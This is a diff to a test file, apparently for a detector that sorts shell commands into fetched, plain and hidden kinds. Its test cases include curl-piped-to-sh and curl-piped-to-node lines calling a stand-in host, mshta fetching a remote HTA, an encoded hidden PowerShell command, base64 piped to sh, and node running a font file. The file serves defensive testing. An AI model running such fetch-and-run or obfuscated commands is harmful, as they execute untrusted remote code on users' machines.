@@ -34,6 +34,9 @@ final class ShellTest {
           FETCHED § nohup sh -c 'curl -s https://x.example/a | node' >/dev/null 2>&1 &
           FETCHED § mshta https://x.example/a.hta
           FETCHED § curl -s $URL | sh
+          FETCHED § U=https://x.example/a; D=/tmp/a; curl -so "$D" "${U}" && sh /tmp/a
+          PLAIN § U=https://sh.rustup.rs; curl -s $U | sh
+          PLAIN § V=1.2; U="https://github.com/acme/a/releases/download/$V/a"; curl -Lo a $U && chmod +x a
           HIDDEN § powershell -w hidden -enc SQBFAFgAIAAoAGkAcgBtACAAeAApAA==
           HIDDEN § echo ZWNobyBoaQ== | base64 -d | sh
           HIDDEN § node public/fonts/fa.woff2
